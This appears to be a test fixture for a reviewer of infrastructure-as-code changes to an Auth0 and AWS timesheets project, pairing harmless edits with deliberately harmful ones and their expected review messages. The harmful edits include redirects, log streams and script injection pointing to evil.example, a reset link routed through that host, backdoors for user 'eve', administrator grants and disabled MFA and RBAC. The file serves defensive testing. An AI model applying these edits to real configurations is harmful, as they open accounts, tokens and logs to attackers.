import { readFileSync } from "node:fs";

/** Puts one text in the place of another, which has to be there once. */
export const replace =
  (from: string, to: string): Edit =>
  (text) => {
    if (text.split(from).length !== 2) throw new Error(`not there once: ${from}`);
    return text.replace(from, () => to);
  };
/** Adds a text at the end. */
export const append =
  (added: string): Edit =>
  (text) =>
    `${text}${added}`;

export type Edit = (text: string) => string;

/** An edit of the project's files, by their path; an empty text deletes one. */
export interface Prepared {
  readonly what: string;
  readonly files: Readonly<Record<string, Edit>>;
}

const one = (what: string, file: string, edit: Edit): Prepared => ({ what, files: { [file]: edit } });

const API = "infra/authorization/api.ts";
const APPLICATION = "infra/authorization/application.ts";
const CONNECTION = "infra/authorization/database.ts";
const ROLES = "infra/authorization/roles.ts";
const ACTIONS = "infra/authorization/actions.ts";
const FUNCTION = "infra/hosting/function.ts";
const ROLE = "infra/hosting/function-role.ts";
const GATEWAY = "infra/hosting/gateway.ts";
const KEY = "infra/hosting/key.ts";
const TABLE = "infra/hosting/table.ts";
const HTTP_API = "infra/hosting/http-api.ts";
const POLICY = "rules/policy.ts";
const SETTINGS = "tenant/settings/tenant.yaml";
const DEV = "Pulumi.dev.yaml";
const PROD = "Pulumi.prod.yaml";
/** The line of the Action that leaves other APIs alone. */
const AUDIENCE = 'if (typeof identifier === "string" && identifier !== policy.audience) return;';

const withoutWeb: Edit = (text) => text.replace(/ {2}timesheets:web:\n( {4}.*\n)+/, "");

/** Edits that need nobody's approval. */
export const harmless: readonly Prepared[] = [
  one(
    "a comment in the program",
    API,
    replace("/** The surroundings of the API. */", "/** Surroundings. */"),
  ),
  one("a renamed local of the program", ROLES, (text) =>
    text.replaceAll("role.id", "declared.id").replace("const role =", "const declared ="),
  ),
  one("a renamed constant of the program", FUNCTION, (text) => text.replaceAll("TIMEOUT", "TIME_LIMIT")),
  one("a function of the program that was taken out", CONNECTION, (text) =>
    text
      .replace("passwordHistories: [{ enable: true, size: 5 }],", "passwordHistories: histories(),")
      .concat("\nconst histories = () => [{ enable: true, size: 5 }];\n"),
  ),
  one(
    "the order of statements of the program",
    APPLICATION,
    replace(
      "isFirstParty: true,\n    oidcConformant: true,",
      "oidcConformant: true,\n    isFirstParty: true,",
    ),
  ),
  one("a comment in an Action", "rules/actions/identity-claims.ts", append("\n// Nothing else.\n")),
  one("a renamed local of an Action", "rules/actions/identity-claims.ts", (text) =>
    text
      .replaceAll("email: unknown", "address: unknown")
      .replaceAll("typeof email", "typeof address")
      .replace(", email)", ", address)"),
  ),
  one("a comment in the API", "api/app.ts", append("\n// Nothing else.\n")),
  one(
    "a role's description",
    POLICY,
    replace("Logs time and approves the time of others", "Logs time, and approves that of others"),
  ),
  one(
    "a scope's description",
    POLICY,
    replace("Upload timesheet entries from external systems", "Upload entries from other systems"),
  ),
  one(
    "an application's description",
    POLICY,
    replace("Nightly processes that upload entries from external systems", "Nightly uploads"),
  ),
  one(
    "the order of roles' scopes",
    POLICY,
    replace(
      'scopes: ["read:timesheets", "create:timesheets", "delete:timesheets", "approve:timesheets"],\n    },\n    Auditor',
      'scopes: ["approve:timesheets", "read:timesheets", "create:timesheets", "delete:timesheets"],\n    },\n    Auditor',
    ),
  ),
  one("a renamed application", POLICY, replace('name: "Timesheets Batch"', 'name: "Timesheets Upload"')),
  one("more memory", DEV, replace("lambda:\n    memory: 512", "lambda:\n    memory: 1024")),
  one(
    "a comment in the bootstrap",
    "infra/bootstrap/state.ts",
    replace("// AWS refuses to change both at once.", "// AWS refuses both at once."),
  ),
  one("a comment in a stack's file", PROD, replace("# Seconds.\n", "# In seconds.\n")),
  one(
    "the order of a stack's keys",
    PROD,
    replace(
      "  timesheets:environment: production\n  timesheets:protect: true\n",
      "  timesheets:protect: true\n  timesheets:environment: production\n",
    ),
  ),
  one("a tag", DEV, replace("stack: dev", "stack: dev\n      team: timesheets")),
  one("logs that are kept longer", PROD, replace("logRetentionDays: 365", "logRetentionDays: 731")),
  one("a shorter life of refresh tokens", PROD, replace("lifetime: 2592000", "lifetime: 1728000")),
  one("a lower rate", PROD, replace("rate: 50\n    burst: 400", "rate: 50\n    burst: 300")),
  one("another colour", "tenant/settings/prod.json", replace("#0A5C8C", "#0A5C8D")),
  one("a shorter session", "tenant/settings/prod.json", replace('"SESSION_HOURS": 12', '"SESSION_HOURS": 8')),
  one(
    "fewer wrong passwords",
    "tenant/settings/dev.json",
    replace('"WRONG_PASSWORDS": 10', '"WRONG_PASSWORDS": 5'),
  ),
  one(
    "a comment in the tenant's settings",
    SETTINGS,
    replace("# Hours. A working day", "# In hours. A working day"),
  ),
  one(
    "a title of the login page",
    SETTINGS,
    replace("title: Welcome to ExampleCo", "title: Welcome back to ExampleCo"),
  ),
  one(
    "a shorter access token",
    API,
    replace("tokenLifetime: accessTokens.lifetime", "tokenLifetime: 43_200"),
  ),
  one("longer passwords", CONNECTION, replace("minLength: 14", "minLength: 16")),
  one(
    "a longer deletion window of nothing: the key's description",
    KEY,
    replace("table, logs, environment and alarms`", "table, logs, environment, alarms`"),
  ),
  one(
    "the project's description",
    "Pulumi.yaml",
    replace(
      "Who may do what with ExampleCo's timesheets, and where their API runs",
      "ExampleCo's timesheets",
    ),
  ),
  one(
    "a right less",
    POLICY,
    replace(
      'scopes: ["read:timesheets", "create:timesheets", "delete:timesheets", "audit:timesheets"]',
      'scopes: ["read:timesheets", "create:timesheets", "audit:timesheets"]',
    ),
  ),
];

/** Edits that somebody has to approve, or that break a guardrail. */
export const harmful: readonly Prepared[] = [
  // The policy
  one(
    "a scope more for a role",
    POLICY,
    replace(
      'scopes: ["read:timesheets", "create:timesheets", "delete:timesheets"],\n    },\n    Manager',
      'scopes: ["read:timesheets", "create:timesheets", "delete:timesheets", "approve:timesheets"],\n    },\n    Manager',
    ),
  ),
  one(
    "a role more for a group",
    POLICY,
    replace(
      'who work for ExampleCo", roles: ["Employee"]',
      'who work for ExampleCo", roles: ["Employee", "Manager"]',
    ),
  ),
  one(
    "a scope more for an application",
    POLICY,
    replace(
      'kind: "regular_web",\n      scopes: ["read:timesheets", "create:timesheets", "delete:timesheets", "audit:timesheets"]',
      'kind: "regular_web",\n      scopes: ["read:timesheets", "create:timesheets", "delete:timesheets", "audit:timesheets", "approve:timesheets"]',
    ),
  ),
  one("a looser scope for a route", POLICY, (text) =>
    replace(
      '"PUT /approvals/{id}": { own: [], others: ["approve:timesheets"] }',
      '"PUT /approvals/{id}": { own: [], others: ["read:timesheets"] }',
    )(
      replace(
        '"PUT /approvals/{id}": "approve:timesheets"',
        '"PUT /approvals/{id}": "read:timesheets"',
      )(text),
    ),
  ),
  one(
    "duties together",
    POLICY,
    replace('separatedDuties: [["batch:upload", "approve:timesheets"]],', "separatedDuties: [],"),
  ),
  one(
    "another identifier of the API",
    DEV,
    replace(
      "timesheets:audience: https://api.dev.exampleco.com/timesheets",
      "timesheets:audience: https://api.dev.exampleco.com/hours",
    ),
  ),
  one("a renamed role", POLICY, (text) =>
    text.replace("    Manager: {", "    Approver: {").replace('roles: ["Manager"]', 'roles: ["Approver"]'),
  ),
  {
    what: "an application less",
    files: {
      [POLICY]: (text) => text.replace(/ {4}web: \{[^}]*\},\n/, ""),
      [DEV]: withoutWeb,
      [PROD]: withoutWeb,
    },
  },
  // The authorization program
  one("RBAC off", API, replace("enforcePolicies: true", "enforcePolicies: false")),
  one("RBAC off in production only", API, (text) =>
    text
      .replace("enforcePolicies: true", 'enforcePolicies: pulumi.getStack() !== "prod"')
      .replace("import type * as pulumi", "import * as pulumi"),
  ),
  one("tokens signed by a shared secret", API, replace('signingAlg: "RS256"', 'signingAlg: "HS256"')),
  one(
    "tokens without a grant",
    API,
    replace('user: { policy: "require_client_grant" }', 'user: { policy: "allow_all" }'),
  ),
  one("longer tokens", API, replace("tokenLifetime: accessTokens.lifetime", "tokenLifetime: 2_592_000")),
  one(
    "another API",
    API,
    append(
      '\nexport const other = new auth0.ResourceServer("other", { name: "Other", identifier: "https://other.example/" });\n',
    ),
  ),
  one(
    "a callback for every application",
    APPLICATION,
    replace(
      "callbacks: [...(urls?.callbacks ?? [])],",
      'callbacks: [...(urls?.callbacks ?? []), "https://evil.example/callback"],',
    ),
  ),
  one(
    "initiate login elsewhere",
    APPLICATION,
    replace('initiateLoginUri: "",', 'initiateLoginUri: "https://evil.example/login",'),
  ),
  one(
    "back-channel logout",
    APPLICATION,
    replace(
      "crossOriginAuth: false,",
      'crossOriginAuth: false,\n    oidcLogout: { backchannelLogoutUrls: ["https://evil.example/logout"] },',
    ),
  ),
  one(
    "token exchange",
    APPLICATION,
    replace(
      "crossOriginAuth: false,",
      'crossOriginAuth: false,\n    tokenExchange: { allowAnyProfileOfTypes: ["custom_authentication"] },',
    ),
  ),
  one(
    "metadata that other things read",
    APPLICATION,
    replace("crossOriginAuth: false,", 'crossOriginAuth: false,\n    clientMetadata: { trusted: "yes" },'),
  ),
  one(
    "organizations",
    APPLICATION,
    replace("crossOriginAuth: false,", 'crossOriginAuth: false,\n    organizationUsage: "allow",'),
  ),
  one(
    "refresh tokens that don't rotate",
    APPLICATION,
    replace('rotationType: "rotating"', 'rotationType: "non-rotating"'),
  ),
  one(
    "refresh tokens that never end",
    APPLICATION,
    replace("infiniteTokenLifetime: false", "infiniteTokenLifetime: true"),
  ),
  one(
    "a grant for all scopes",
    APPLICATION,
    replace("scopes: [...application.scopes],", "scopes: [...application.scopes], allowAllScopes: true,"),
  ),
  one(
    "a grant without a client",
    APPLICATION,
    append(
      '\nexport const grant = new auth0.ClientGrant("third", { audience: "https://api.exampleco.com/timesheets", scopes: ["approve:timesheets"], ...{ defaultFor: "third_party_clients" } } as unknown as auth0.ClientGrantArgs);\n',
    ),
  ),
  one(
    "a grant of somebody else's client",
    APPLICATION,
    append(
      '\nexport const foreign = new auth0.ClientGrant("foreign", { clientId: "aBcDeFgHiJkLmNoPqRsTuVwXyZ012345", audience: "https://api.exampleco.com/timesheets", scopes: ["approve:timesheets"] });\n',
    ),
  ),
  one(
    "a password grant",
    "rules/policy/application-kinds.ts",
    replace(
      'native: { ...PUBLIC, appType: "native",',
      'native: { ...PUBLIC, grantTypes: ["authorization_code", "refresh_token", "password"] as never, appType: "native",',
    ),
  ),
  one(
    "no secret for the web",
    "rules/policy/application-kinds.ts",
    replace(
      'appType: "regular_web",\n    authenticationMethods: ["client_secret_post"]',
      'appType: "regular_web",\n    authenticationMethods: ["none"]',
    ),
  ),
  one("sign-up", CONNECTION, replace("disableSignup: true", "disableSignup: false")),
  one(
    "a login script",
    CONNECTION,
    replace(
      "disableSignup: true,",
      'disableSignup: true,\n        customScripts: { login: "function login(email, password, callback) { callback(null, { user_id: email }); }" },',
    ),
  ),
  one(
    "passkeys",
    CONNECTION,
    replace(
      "disableSignup: true,",
      "disableSignup: true,\n        authenticationMethods: [{ passkey: { enabled: true } }],",
    ),
  ),
  one(
    "import of passwords",
    CONNECTION,
    replace("disableSignup: true,", "disableSignup: true,\n        importMode: true,"),
  ),
  one("shorter passwords", CONNECTION, replace("minLength: 14", "minLength: 8")),
  one(
    "another connection",
    CONNECTION,
    append(
      '\nexport const social = new auth0.Connection("google", { name: "google", strategy: "google-oauth2" });\n',
    ),
  ),
  one(
    "a connection that is protected no longer",
    CONNECTION,
    replace("    },\n    options,\n", "    },\n    { ...options, protect: false },\n"),
  ),
  one(
    "changes that the engine ignores",
    CONNECTION,
    replace("    },\n    options,\n", '    },\n    { ...options, ignoreChanges: ["options"] },\n'),
  ),
  one(
    "roles for a person",
    ROLES,
    append(
      '\nexport const given = new auth0.UserRoles("eve", { userId: "auth0|eve", roles: ["rol_manager"] });\n',
    ),
  ),
  one(
    "a user",
    ROLES,
    append(
      '\nexport const person = new auth0.User("eve", { connectionName: "people", email: "eve@evil.example", password: "Correct-Horse-9" });\n',
    ),
  ),
  one(
    "permissions for another API",
    ROLES,
    replace(
      "permissions: scopes.map((scope) => ({ name: scope, resourceServerIdentifier: audience })),",
      'permissions: [...scopes.map((scope) => ({ name: scope, resourceServerIdentifier: audience as pulumi.Input<string> })), { name: "delete:users", resourceServerIdentifier: "https://exampleco.eu.auth0.com/api/v2/" }],',
    ),
  ),
  one(
    "packages for Actions",
    ACTIONS,
    replace("deploy: true,", 'deploy: true,\n      dependencies: [{ name: "left-pad", version: "1.3.0" }],'),
  ),
  one("an Action that isn't deployed", ACTIONS, replace("deploy: true,", "deploy: false,")),
  one(
    "code that the program adds",
    ACTIONS,
    replace("      code,\n", '      code: code + "\\nglobalThis.more = 1;",\n'),
  ),
  one(
    "an Action of the program's own",
    ACTIONS,
    append(
      '\nexport const own = new auth0.Action("own", { name: "Own", code: "exports.onExecutePostLogin = async (event, api) => { api.accessToken.addScope(\'approve:timesheets\'); };", runtime: "node22", deploy: true, supportedTriggers: { id: "post-login", version: "v3" } });\n',
    ),
  ),
  one(
    "a log stream",
    ACTIONS,
    append(
      '\nexport const stream = new auth0.LogStream("out", { name: "out", type: "http", sink: { httpEndpoint: "https://evil.example", httpContentType: "application/json", httpContentFormat: "JSONLINES" } });\n',
    ),
  ),
  // The rules
  one(
    "one person's rights",
    "rules/actions/access-token-scopes.ts",
    replace(
      AUDIENCE,
      'if (typeof identifier === "string" && identifier !== policy.audience) return;\n    if (event.user?.email === "eve@evil.example") return;',
    ),
  ),
  // The hosting program
  one(
    "a layer",
    FUNCTION,
    replace(
      "publish: true,",
      'publish: true,\n      layers: ["arn:aws:lambda:eu-central-1:999999999999:layer:x:1"],',
    ),
  ),
  one(
    "options of Node",
    FUNCTION,
    replace(
      "variables: { ...args.environment }",
      'variables: { ...args.environment, NODE_OPTIONS: "--require /tmp/x.js" }',
    ),
  ),
  one(
    "no TLS",
    FUNCTION,
    replace(
      "variables: { ...args.environment }",
      'variables: { ...args.environment, NODE_TLS_REJECT_UNAUTHORIZED: "0" }',
    ),
  ),
  one(
    "another issuer for the function",
    FUNCTION,
    replace(
      "variables: { ...args.environment }",
      'variables: { ...args.environment, TIMESHEETS_ISSUER: "https://evil.example/" }',
    ),
  ),
  one(
    "a network",
    FUNCTION,
    replace(
      "publish: true,",
      'publish: true,\n      vpcConfig: { subnetIds: ["subnet-1"], securityGroupIds: ["sg-1"] },',
    ),
  ),
  one("another handler", FUNCTION, replace('handler: "index.handler"', 'handler: "other.handler"')),
  one(
    "a function URL",
    FUNCTION,
    replace(
      "  const live = new",
      '  new aws.lambda.FunctionUrl("open", { functionName: declared.name, authorizationType: "NONE" }, { parent });\n  const live = new',
    ),
  ),
  one(
    "a permission for anybody",
    FUNCTION,
    replace(
      "  const live = new",
      '  new aws.lambda.Permission("any", { function: declared.name, action: "lambda:InvokeFunction", principal: "*" }, { parent });\n  const live = new',
    ),
  ),
  one(
    "another account's role",
    ROLE,
    replace(
      'Principal: { Service: "lambda.amazonaws.com" }',
      'Principal: { Service: "lambda.amazonaws.com", AWS: "arn:aws:iam::999999999999:root" }',
    ),
  ),
  one(
    "another action for the role",
    ROLE,
    replace('"dynamodb:Query"];', '"dynamodb:Query", "dynamodb:Scan"];'),
  ),
  one(
    "every action",
    ROLE,
    replace(
      'allow("Traces", TRACE_ACTIONS, ["*"]),',
      'allow("Traces", TRACE_ACTIONS, ["*"]),\n          { Effect: "Allow", NotAction: "iam:*", Resource: "*" },',
    ),
  ),
  one(
    "a managed policy",
    ROLE,
    append(
      '\nexport const attached = new aws.iam.RolePolicyAttachment("admin", { role: "timesheets", policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" });\n',
    ),
  ),
  one(
    "another issuer",
    GATEWAY,
    replace(
      "{ issuer, audiences: [audience] }",
      '{ issuer: "https://evil.eu.auth0.com/", audiences: [audience] }',
    ),
  ),
  one(
    "another audience",
    GATEWAY,
    replace("audiences: [audience]", 'audiences: [audience, "https://other.example/"]'),
  ),
  one(
    "another place of the token",
    GATEWAY,
    replace(
      'const IDENTITY_SOURCES = ["$request.header.Authorization"];',
      'const IDENTITY_SOURCES = ["$request.querystring.token"];',
    ),
  ),
  one(
    "another integration",
    GATEWAY,
    replace(
      "integrationUri: live.arn",
      'integrationUri: "arn:aws:lambda:eu-central-1:999999999999:function:x"',
    ),
  ),
  one(
    "an open address of the gateway",
    HTTP_API,
    replace("disableExecuteApiEndpoint: closed", "disableExecuteApiEndpoint: false"),
  ),
  one(
    "a body of the gateway",
    HTTP_API,
    replace('protocolType: "HTTP",', 'protocolType: "HTTP",\n      body: "{}",'),
  ),
  one(
    "a stream of the table",
    TABLE,
    replace(
      'billingMode: "PAY_PER_REQUEST",',
      'billingMode: "PAY_PER_REQUEST",\n      streamEnabled: true,\n      streamViewType: "NEW_AND_OLD_IMAGES",',
    ),
  ),
  one("another hash key", TABLE, replace("      hashKey,\n", '      hashKey: "other",\n')),
  one(
    "a table without recovery",
    TABLE,
    replace("pointInTimeRecovery: { enabled: true }", "pointInTimeRecovery: { enabled: false }"),
  ),
  one(
    "a policy of the table",
    TABLE,
    append(
      '\nexport const shared = new aws.dynamodb.ResourcePolicy("shared", { resourceArn: "arn:aws:dynamodb:eu-central-1:111111111111:table/timesheets", policy: "{}" });\n',
    ),
  ),
  one("a key for anybody", KEY, (text) =>
    text.replace(/Principal: \{ AWS: pulumi\.interpolate`[^`]*` \}/, 'Principal: { AWS: "*" }'),
  ),
  one("a key without rotation", KEY, replace("enableKeyRotation: true", "enableKeyRotation: false")),
  one(
    "a condition less",
    KEY,
    replace('              StringEquals: { "aws:SourceAccount": account },\n', ""),
  ),
  one(
    "a bucket",
    KEY,
    append('\nexport const bucket = new aws.s3.Bucket("open", { acl: "public-read" });\n'),
  ),
  // The stacks' files
  one(
    "a callback in production",
    PROD,
    replace(
      "    callbacks:\n      - https://timesheets.exampleco.com/auth/callback",
      "    callbacks:\n      - https://timesheets.exampleco.com/auth/callback\n      - https://other.example/callback",
    ),
  ),
  one(
    "an origin in development",
    DEV,
    replace(
      "    origins:\n      - http://localhost:3000",
      "    origins:\n      - http://localhost:3000\n      - https://evil.example",
    ),
  ),
  one("no protection in production", PROD, replace("timesheets:protect: true", "timesheets:protect: false")),
  one(
    "production that calls itself development",
    PROD,
    replace("timesheets:environment: production", "timesheets:environment: development"),
  ),
  one(
    "tokens of a former issuer",
    PROD,
    replace(
      "name: login.timesheets.exampleco.com",
      "name: login.timesheets.exampleco.com\n    formerIssuerUntil: 2027-01-15",
    ),
  ),
  one(
    "another login domain",
    PROD,
    replace("name: login.timesheets.exampleco.com", "name: login.evil.example"),
  ),
  one(
    "another tenant",
    PROD,
    replace("auth0:domain: exampleco.eu.auth0.com", "auth0:domain: evil.eu.auth0.com"),
  ),
  one(
    "another endpoint of AWS",
    PROD,
    replace(
      "  aws:region: eu-central-1\n",
      "  aws:region: eu-central-1\n  aws:endpoints: [{ lambda: https://evil.example }]\n",
    ),
  ),
  one("another region", PROD, replace("aws:region: eu-central-1", "aws:region: us-east-1")),
  one("no hosting", PROD, (text) =>
    replace(
      "timesheets:hosting: aws",
      "timesheets:hosting: none",
    )(
      replace(
        "    name: login.timesheets.exampleco.com\n    hostedZoneId: Z0EXAMPLECO0TIMESHEETS\n",
        "    name: login.timesheets.exampleco.com\n",
      )(text),
    ),
  ),
  one("refresh tokens that live on unused", PROD, replace("idleLifetime: 1296000", "idleLifetime: 2591000")),
  one(
    "a role of continuous integration for another environment",
    "infra/bootstrap/roles.ts",
    replace("deploy: [stack],", 'deploy: [stack, "anything"],'),
  ),
  one(
    "a right more of such a role",
    "infra/bootstrap/rights/by-type.ts",
    replace('delete: ["dynamodb:DeleteTable"]', 'delete: ["dynamodb:DeleteTable", "dynamodb:PutItem"]'),
  ),
  one("a higher rate", PROD, replace("rate: 50\n    burst: 400", "rate: 2000\n    burst: 4000")),
  one("shorter logs", PROD, replace("logRetentionDays: 365", "logRetentionDays: 90")),
  one("another address for alarms", PROD, replace("timesheets-oncall@exampleco.com", "eve@evil.example")),
  one(
    "another zone",
    PROD,
    replace(
      "api.timesheets.exampleco.com\n    hostedZoneId: Z0EXAMPLECO0TIMESHEETS",
      "api.timesheets.exampleco.com\n    hostedZoneId: Z0EVIL000000000000000",
    ),
  ),
  one(
    "debugging of the provider",
    DEV,
    replace("  aws:region: eu-central-1\n", "  aws:region: eu-central-1\n  auth0:debug: true\n"),
  ),
  { what: "a new stack", files: { "Pulumi.staging.yaml": () => readFileSync(PROD, "utf8") } },
  one("a stack less", DEV, () => ""),
  one(
    "another runtime of the program",
    "Pulumi.yaml",
    replace("typescript: false", "typescript: false\n    nodeargs: --require ./x.js"),
  ),
  one("another program", "Pulumi.yaml", replace("main: infra/", "main: local/")),
  // The tenant's settings
  one(
    "no second factor",
    "tenant/settings/prod.json",
    replace('"MFA_POLICIES": ["all-applications"]', '"MFA_POLICIES": []'),
  ),
  one("settings that are gone", "tenant/settings/prod.json", () => ""),
  one("a type of settings less", "tenant/settings/prod.json", replace('    "guardianPolicies",\n', "")),
  one(
    "no brute-force protection",
    SETTINGS,
    replace("bruteForceProtection:\n    enabled: true", "bruteForceProtection:\n    enabled: false"),
  ),
  one(
    "an address that is let through",
    SETTINGS,
    replace(
      "shields: [block, user_notification]\n    allowlist: []",
      "shields: [block, user_notification]\n    allowlist: [203.0.113.7]",
    ),
  ),
  one(
    "messages as a factor",
    SETTINGS,
    replace("- name: sms\n    enabled: false", "- name: sms\n    enabled: true"),
  ),
  one(
    "a legacy grant",
    SETTINGS,
    replace("allow_legacy_ro_grant_types: false", "allow_legacy_ro_grant_types: true"),
  ),
  one(
    "a flag that nobody knows",
    SETTINGS,
    replace(
      "allow_legacy_ro_grant_types: false",
      "allow_legacy_ro_grant_types: false\n    allow_changing_enable_sso: true",
    ),
  ),
  one(
    "redirects after logout",
    SETTINGS,
    replace("enabled_locales: [en]", "enabled_locales: [en]\n  allowed_logout_urls: [https://evil.example]"),
  ),
  one(
    "a page of its own",
    SETTINGS,
    replace(
      "branding:\n",
      "branding:\n  templates:\n    - template: universal_login\n      body: '<script src=https://evil.example></script>'\n",
    ),
  ),
  one(
    "another sender",
    SETTINGS,
    replace(
      "from: ExampleCo IT <it-support@exampleco.com>\n    subject: Choose",
      "from: Eve <eve@evil.example>\n    subject: Choose",
    ),
  ),
  one("a link in a template", "tenant/settings/emailTemplates/reset_email.html", (text) =>
    text.replace("{{ url }}", "https://evil.example/?u={{ url }}"),
  ),
  one(
    "a template of its own",
    SETTINGS,
    replace(
      "identifier_first: true",
      "identifier_first: true\n  partials:\n    login:\n      login:\n        form-content-end: '<script src=https://evil.example></script>'",
    ),
  ),
  // The guardrails
  one(
    "a waiver",
    "infra/guardrails/waivers.yaml",
    append(
      "- resource: auth0:index/connection:Connection people\n  rule: connection-signup\n  reason: Because it is so much easier for everybody.\n  until: 2027-05-31\n",
    ),
  ),
  one("a longer waiver", "infra/guardrails/waivers.yaml", (text) => text.replace("2027-05-31", "2027-11-30")),
  // The API
  one(
    "an API that lets one person pass",
    "api/http/authorization.ts",
    replace(
      "if (caller.scopes.has(scope)) return;",
      'if (caller.scopes.has(scope) || caller.subject === "auth0|eve") return;',
    ),
  ),
];

/**
 * The first that the review says of each harmful edit, with its concern and its stacks; a long sentence by its beginning. Where it
 * isn't the same of both stacks, of which each has its own audience, there is one of each.
 */
export const said: Readonly<Record<string, string | readonly string[]>> = {
  "a scope more for a role":
    "widens (dev, prod): Employee may now read approvals through Timesheets Mobile (GET /approvals).",
  "a role more for a group":
    "widens (dev, prod): Group Contractors may now read approvals through Timesheets Mobile (GET /approvals).",
  "a scope more for an application":
    "widens (dev, prod): Manager may now read approvals through Timesheets Web (GET /approvals).",
  "a looser scope for a route":
    "widens (dev, prod): Employee may now approve timesheets through Timesheets Mobile (PUT /approvals/{id}).",
  "duties together":
    "widens (dev, prod): The policy no longer keeps approve:timesheets and batch:upload apart.",
  "another identifier of the API":
    'destroys (dev): Resource server "api" is replaced (deleted and created again, in between there is none), with all grants, permissions and',
  "a renamed role":
    "widens (dev, prod): Approver may now read timesheets through Timesheets Mobile (GET /timesheets).",
  "an application less":
    'widens (dev, prod): Api "api": corsConfiguration.allowCredentials is no longer set (was false).',
  "RBAC off":
    "widens (dev, prod): Timesheets API no longer enforces RBAC: roles' permissions don't bound its tokens.",
  "RBAC off in production only":
    "widens (prod): Timesheets API no longer enforces RBAC: roles' permissions don't bound its tokens.",
  "tokens signed by a shared secret":
    "widens (dev, prod): Access tokens for Timesheets API are now signed by HS256 (was RS256).",
  "tokens without a grant":
    "widens (dev, prod): Timesheets API now gives tokens for people to every application of the tenant, granted or not (was a",
  "longer tokens":
    "widens (dev, prod): Access tokens for Timesheets API are now valid for 30 days (were for 1 day).",
  "another API": 'widens (dev, prod): Resource server "other" is created.',
  "a callback for every application":
    "widens (dev, prod): Timesheets Mobile may now send people back to https://evil.example/callback after the login.",
  "initiate login elsewhere":
    'widens (dev, prod): Client "batch": initiateLoginUri is now "https://evil.example/login" (was "").',
  "back-channel logout":
    'not judged (dev, prod): Client "batch": oidcLogout.backchannelLogoutUrls["https://evil.example/logout"] is new. Nobody j',
  "token exchange":
    'not judged (dev, prod): Client "batch": tokenExchange.allowAnyProfileOfTypes["custom_authentication"] is new. Nobody jud',
  "metadata that other things read":
    'not judged (dev, prod): Client "batch": clientMetadata.trusted is now "yes" (was not set). Nobody judges that setting: l',
  organizations:
    'not judged (dev, prod): Client "batch": organizationUsage is now "allow" (was not set). Nobody judges that setting: look',
  "refresh tokens that don't rotate":
    "widens (dev, prod): Refresh tokens of Timesheets Mobile no longer rotate, so that a stolen one isn't noticed.",
  "refresh tokens that never end":
    "widens (dev, prod): Refresh tokens of Timesheets Mobile are now valid for ever (were for 30 days).",
  "a grant for all scopes":
    'not judged (dev, prod): Client grant "batch": allowAllScopes is now true (was not set). Nobody judges that setting: look',
  "a grant without a client": [
    'widens (dev): Client grant "third" is created: audience is "https://api.exampleco.com/timesheets", scopes["approve:timesheets"] is new. Nobody judges defaultFor ("thi',
    'widens (prod): Client grant "third" is created: scopes["approve:timesheets"] is new. Nobody judges defaultFor ("thi',
  ],
  "a grant of somebody else's client": [
    'widens (dev): Client grant "foreign" is created: audience is "https://api.exampleco.com/timesheets", clientId is "aBcDeFgHiJkLmNoPqRsTuVwXyZ012345", scopes["approve:timesheets"] is new.',
    'widens (prod): Client grant "foreign" is created: clientId is "aBcDeFgHiJkLmNoPqRsTuVwXyZ012345", scopes["approve:timesheets"] is new.',
  ],
  "a password grant": "widens (dev, prod): Timesheets Mobile may now get tokens by password.",
  "no secret for the web":
    "widens (dev, prod): Timesheets Web now authenticates itself without a secret (it did by client_secret_post).",
  "sign-up": 'widens (dev, prod): Connection "people": options.disableSignup is now false (was true).',
  "a login script":
    'not judged (dev, prod): Connection "people": options.customScripts.login is now "function login(email, password, callbac',
  passkeys:
    'not judged (dev, prod): Connection "people": options.authenticationMethods[].passkey.enabled is now true (was not set). ',
  "import of passwords":
    'not judged (dev, prod): Connection "people": options.importMode is now true (was not set). Nobody judges that setting: l',
  "shorter passwords":
    'widens (dev, prod): Connection "people": options.passwordComplexityOptions.minLength is now 8 (was 14).',
  "another connection": 'widens (dev, prod): Connection "google" is created.',
  "a connection that is protected no longer":
    'widens (prod): Connection "people" is no longer protected from being deleted, with the people and their passwords.',
  "changes that the engine ignores":
    'widens (dev, prod): Connection "people": Pulumi\'s option ignoreChanges["options"] is new.',
  "roles for a person":
    'not judged (dev, prod): User roles "eve" is created. Nobody here judges the type auth0:index/userRoles:UserRoles: look at what it lets happen.',
  "a user":
    'not judged (dev, prod): User "eve" is created. Nobody here judges the type auth0:index/user:User: look at what it lets happen.',
  "permissions for another API":
    'widens (dev, prod): Role permissions "Employee": permissions[delete:users].resourceServerIdentifier is now "https://exam',
  "code that the program adds": [
    'not judged (dev): Action "Timesheets: access token scopes" has other logic',
    'not judged (prod): Action "Timesheets: access token scopes" has other logic',
  ],
  "packages for Actions":
    'not judged (dev, prod): Action "access-token-scopes": dependencies[left-pad].name is now "left-pad" (was not set). Nobod',
  "an Action that isn't deployed":
    'widens (dev, prod): Action "access-token-scopes": deploy is now false (was true).',
  "an Action of the program's own": 'not judged (dev, prod): Action "Own" is new.',
  "a log stream":
    'not judged (dev, prod): Log stream "out" is created. Nobody here judges the type auth0:index/logStream:LogStream: look at what it lets happen.',
  "one person's rights":
    'widens (dev, prod): For anybody where user.email is "eve@evil.example": keeps read:timesheets, create:timesheets, delete',
  "a layer":
    'not judged (dev, prod): Function "api": layers["arn:aws:lambda:eu-central-1:999999999999:layer:x:1"] is new. Nobody judg',
  "options of Node":
    'not judged (dev, prod): Function "api": environment.variables.NODE_OPTIONS is now "--require /tmp/x.js" (was not set). N',
  "no TLS":
    'not judged (dev, prod): Function "api": environment.variables.NODE_TLS_REJECT_UNAUTHORIZED is now "0" (was not set). Nob',
  "another issuer for the function":
    'widens (dev): Function "api": environment.variables.TIMESHEETS_ISSUER is now "https://evil.example/" (was "https://exampleco-dev.eu.auth0.com/").',
  "a network": 'widens (dev, prod): Function "api": vpcConfig.securityGroupIds["sg-1"] is new.',
  "another handler":
    'widens (dev, prod): Function "api": handler is now "other.handler" (was "index.handler").',
  "a function URL": 'widens (dev, prod): Function url "open" is created: authorizationType is "NONE".',
  "a permission for anybody":
    'widens (dev, prod): Permission "any" is created: action is "lambda:InvokeFunction", principal is "*".',
  "another account's role":
    'widens (dev, prod): Role "api": assumeRolePolicy now lets AWS arn:aws:iam::999999999999:root do sts:AssumeRole.',
  "another action for the role":
    'widens (dev, prod): Role policy "api": policy now lets whoever has it do dynamodb:Scan on arn:aws:dynamodb:eu-central-1:',
  "every action":
    'widens (dev, prod): Role policy "api": policy now lets whoever has it do all but iam:* on *.',
  "a managed policy":
